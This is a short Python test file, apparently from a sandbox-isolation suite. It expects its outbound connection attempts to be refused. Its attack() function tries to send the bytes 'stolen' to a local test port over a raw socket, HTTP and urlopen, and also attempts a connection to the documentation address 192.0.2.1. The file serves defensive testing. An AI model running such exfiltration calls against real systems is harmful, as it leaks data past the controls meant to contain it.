"""Send the hidden inputs to a server.

expect: refused EPERM EACCES URLError
control: heard
"""

import http.client
import socket
import urllib.request

from trying import each


def attack(x, places):
    port = places["tcp"]

    def plain():
        with socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
            return connection.sendall(b"stolen")

    def http_get():
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=1)
        return connection.request("GET", "/stolen")

    return each(
        plain=plain,
        http=http_get,
        url=lambda: urllib.request.urlopen(f"http://127.0.0.1:{port}/stolen", timeout=1),
        outside=lambda: socket.create_connection(("192.0.2.1", 80), timeout=0.2),
        six=lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM),
    )
